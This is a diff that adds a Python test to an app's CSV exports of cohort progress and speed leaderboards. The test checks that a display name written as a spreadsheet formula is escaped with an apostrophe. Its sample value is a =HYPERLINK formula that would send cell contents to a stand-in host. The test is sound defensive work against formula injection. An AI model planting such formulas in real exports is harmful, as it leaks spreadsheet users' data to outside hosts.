@@ -150,6 +150,22 @@ def test_cohort_progress_table_and_csv(
     assert set(parsed[0]) >= {"day_reached", "due_today", "overdue", "benchmarks_run"}
 
 
+def test_a_display_name_that_is_a_formula_stays_text_in_the_exports(
+    db: Session, cohort: m.Cohort, day2: None
+) -> None:
+    """A member who names themself =HYPERLINK(...) would have it run in the instructor's
+    spreadsheet: the exports keep it text, behind an apostrophe, as spreadsheets write it."""
+    name = '=HYPERLINK("http://x.example/?"&A1,"me")'
+    eve = add_member(db, cohort, "9", display_name=name)
+    rate_card(db, eve, CARDS[0], "good", NOW, scheduler=SCHED)
+    _measure(db, eve, "mlx", 50.0, "day2", "@cf/meta/llama-3.1-8b")
+    (row,) = csv.DictReader(io.StringIO(progress_csv(cohort_progress(db, cohort.id, NOW))))
+    assert row["name"] == "'" + name and row["retention"] == ""
+    (ranked,) = csv.DictReader(io.StringIO(boards_csv(speed_boards(db, cohort.id, "mlx"))))
+    assert ranked["name"] == "'" + name and ranked["model"] == "'@cf/meta/llama-3.1-8b"
+    assert ranked["value"] == "50" and ranked["rank"] == "1"
+
+
 def test_a_job_a_worker_ran_counts_as_a_benchmark_run(
     db: Session, cohort: m.Cohort, members: list[m.Member]
 ) -> None:
